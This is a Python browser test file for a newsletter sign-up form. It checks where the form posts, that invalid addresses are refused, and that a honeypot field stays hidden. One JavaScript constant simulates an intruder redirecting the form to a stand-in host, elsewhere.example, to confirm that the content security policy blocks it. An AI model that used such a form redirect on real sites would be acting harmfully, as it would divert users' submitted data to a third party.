"""The form by which readers ask to be told: it goes to our door and nowhere else, and its trap catches no person."""

from __future__ import annotations

from typing import Any
from urllib.parse import parse_qs

import pytest

from tests.browser.conftest import Open
from tests.browser.reader import Reader
from tests.harness.scene import DOOR
from tests.harness.scenes import TWO_LANGUAGES

#: Sends the form elsewhere, as somebody might who got into the page; tells what the page's policy said to it.
ELSEWHERE = """() => new Promise(told => {
  document.addEventListener("securitypolicyviolation", event => told(event.effectiveDirective));
  const form = document.querySelector("form");
  form.action = "https://elsewhere.example/subscribers";
  form.submit();
})"""

pytestmark = pytest.mark.slow


def at_the_door(reading: Reader) -> list[Any]:
    """What comes to the door from now on; it says yes to all."""
    came: list[Any] = []

    def take(route: Any) -> None:
        came.append(route.request)
        route.fulfill(status=202, content_type="text/html", body="<!doctype html><title>Look</title>")

    reading.page.context.route("**/*.example*/**", take)
    return came


@pytest.mark.parametrize("path", ["/", f"/incidents/{TWO_LANGUAGES.incident}.html", "/pt/index.html"])
def test_the_form_goes_to_the_door_with_the_address_and_the_pages_language(reader: Open, path: str) -> None:
    reading = reader(TWO_LANGUAGES).open(path)
    came = at_the_door(reading)
    field = reading.page.locator("#email")
    field.focus()
    reading.page.keyboard.type("mia@example.org")
    with reading.page.expect_navigation():
        reading.page.keyboard.press("Enter")
    [request] = came
    assert (request.method, request.url) == ("POST", f"{DOOR}/subscribers")
    sent = parse_qs(request.post_data, keep_blank_values=True)
    language = "pt" if path.startswith("/pt/") else "en"
    assert sent == {"email": ["mia@example.org"], "language": [language], "website": [""]}
    assert reading.complaints == []


def test_the_form_can_be_sent_nowhere_else(reader: Open) -> None:
    reading = reader(TWO_LANGUAGES).open()
    came = at_the_door(reading)
    assert reading.page.evaluate(ELSEWHERE) == "form-action"
    assert came == []
    assert reading.page.url == reading.url + "/"


def test_an_address_that_is_none_is_not_sent(reader: Open) -> None:
    reading = reader(TWO_LANGUAGES).open()
    came = at_the_door(reading)
    for typed in ("", "mia", "mia@"):
        reading.page.locator("#email").fill(typed)
        reading.page.get_by_role("button", name="Sign up").click()
        assert not reading.page.locator("#email").evaluate("one => one.validity.valid")
    assert came == []


def test_the_trap_is_hidden_from_eyes_keyboards_and_screen_readers(reader: Open) -> None:
    page = reader(TWO_LANGUAGES).open().page
    assert not page.locator("#website").is_visible()
    # Roles are counted as a screen reader has them.
    assert [box.get_attribute("id") for box in page.get_by_role("textbox").all()] == ["email"]
    page.locator("#email").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.tagName") == "BUTTON"
    assert "Leave this empty" not in page.locator("body").aria_snapshot()
